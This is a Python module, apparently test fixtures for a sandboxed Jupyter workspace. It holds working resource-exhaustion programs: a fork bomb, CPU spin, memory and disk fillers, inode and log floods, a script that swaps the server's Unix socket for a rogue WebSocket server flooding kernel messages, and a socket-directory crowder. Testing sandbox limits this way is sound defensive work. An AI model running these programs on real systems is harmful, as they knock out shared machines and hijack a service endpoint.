"""Programs that a hostile researcher might run, one for each thing that a machine can run out of.

Each is Python that runs in the workspace as its own user until the workspace ends. `FLOOD` takes the place of the
workspace's server: it answers every WebSocket with messages of a kernel, as many as fit through.
"""

SPIN = """
import os
for _ in range(2 * os.cpu_count() - 1):
    if os.fork() == 0:
        break
while True:
    pass
"""

FORK = """
import os, signal, time
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
while True:
    try:
        if os.fork() == 0:
            time.sleep(1); os._exit(0)
    except OSError:
        pass
"""

MEMORY = """
import os
while True:
    if os.fork() == 0:
        hog = []
        while True:
            hog.append(bytearray(16 << 20)); hog[-1][::4096] = b"x" * 4096
    os.wait()
"""

DISK = """
while True:
    with open("/project/full", "wb", 0) as file:
        for _ in range(256):
            file.write(bytes(1 << 20))
"""

FILES = """
import os, shutil
while True:
    os.makedirs("/project/many", exist_ok=True)
    for number in range(20_000):
        os.close(os.open(f"/project/many/{number}", os.O_CREAT))
    shutil.rmtree("/project/many")
"""

LOG = """
line = b"x" * 1023 + b"\\n"
with open("/proc/1/fd/1", "wb") as out:
    while True:
        out.write(line)
"""

# Replace the server's socket, shake hands with whoever comes, then send `status` messages of the version that
# JupyterLab negotiates: count and offsets as little-endian 64-bit numbers, then channel, header, parent, metadata
# and content (the same message again and again).
FLOOD = """
import base64, hashlib, json, os, re, socket, struct, threading
parts = [b"iopub"] + [json.dumps(x).encode() for x in (
    {"msg_id": "1", "msg_type": "status", "username": "", "session": "1", "version": "5.3",
     "date": "2026-01-01T00:00:00Z"}, {}, {}, {"execution_state": "busy"})]
offsets = [8 * (len(parts) + 2)]
for part in parts:
    offsets.append(offsets[-1] + len(part))
message = struct.pack(f"<{len(offsets) + 1}Q", len(offsets), *offsets) + b"".join(parts)
frame = b"\\x82\\x7e" + struct.pack(">H", len(message)) + message
block = frame * 1000
def serve(connection):
    head = connection.recv(65536)
    key = re.search(rb"(?i)sec-websocket-key: *([^\\r]+)", head)
    if not key:
        kind = b"Content-Type: application/json\\r\\nContent-Length: 2\\r\\n\\r\\n{}"
        connection.sendall(b"HTTP/1.1 200 OK\\r\\n" + kind)
        return connection.close()
    accept = base64.b64encode(hashlib.sha1(key[1] + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest())
    answer = b"HTTP/1.1 101 Switching\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Accept: "
    answer += accept + b"\\r\\n"
    if b"v1.kernel.websocket.jupyter.org" in head:
        answer += b"Sec-WebSocket-Protocol: v1.kernel.websocket.jupyter.org\\r\\n"
    connection.sendall(answer + b"\\r\\n")
    while True:
        connection.sendall(block)
listener = socket.socket(socket.AF_UNIX)
os.umask(0o000)
listener.bind("/run/enclave/server/new")
listener.listen(64)
os.rename("/run/enclave/server/new", "/run/enclave/server/server.sock")
def safely(connection):
    try:
        serve(connection)
    except OSError:
        pass
while True:
    threading.Thread(target=safely, args=[listener.accept()[0]], daemon=True).start()
"""

# A hundred thousand names beside the socket, and then one more server in its place would be found as before.
CROWD = """
import os
for number in range(100_000):
    os.close(os.open(f"/run/enclave/server/{number}", os.O_CREAT))
print("crowded")
"""
